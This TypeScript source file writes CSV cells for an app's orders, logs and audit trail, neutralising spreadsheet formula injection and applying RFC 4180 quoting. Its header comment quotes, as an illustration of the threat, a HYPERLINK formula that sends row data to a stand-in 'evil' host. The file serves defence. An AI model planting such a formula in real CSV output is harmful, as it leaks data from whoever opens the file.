/**
 * The one CSV cell writer for every CSV the app writes (orders, logs, audit trail, candles).
 *
 * Spreadsheet programs run a cell that starts with =, +, -, @, tab or carriage return as a
 * formula, and much of what lands in these files comes from outside (an exchange's order id or
 * error message, a symbol, a model's text): `=HYPERLINK("https://evil/?"&A1,"Click")` would
 * become a live link that sends the row away. Following OWASP's CSV injection rule, such a cell
 * is prefixed with a single quote, so it is shown as the text it is; a plain number (-1.5, +2,
 * 1e-8) is left alone so it stays a number. Then RFC 4180 quoting applies.
 */

const FORMULA_START = /^[=+\-@\t\r]/;
/** A plain decimal number: what a negative price, P&L or fee looks like. */
const PLAIN_NUMBER = /^[+-]?(?:\d+(?:\.\d*)?|\.\d+)(?:[eE][+-]?\d+)?$/;
const NEEDS_QUOTES = /[",\r\n]|^\s|\s$/;

/** The cell's text with a formula-looking start neutralised (numbers are kept as they are). */
export function neutraliseCsvFormula(value: string): string {
  return FORMULA_START.test(value) && !PLAIN_NUMBER.test(value) ? `'${value}` : value;
}

/**
 * A CSV field: neutralised as above, then quoted per RFC 4180 when it holds a comma, a double
 * quote, CR or LF (and, so that spreadsheet programs keep them, leading or trailing spaces);
 * quotes inside are doubled.
 */
export function csvField(value: string): string {
  const safe = neutraliseCsvFormula(value);
  return NEEDS_QUOTES.test(safe) ? `"${safe.replaceAll('"', '""')}"` : safe;
}

/** One CSV record, CRLF-terminated as RFC 4180 says. */
export function csvLine(cells: readonly string[]): string {
  let line = '';
  for (let i = 0; i < cells.length; i += 1) {
    if (i > 0) line += ',';
    line += csvField(cells[i] ?? '');
  }
  return `${line}\r\n`;
}
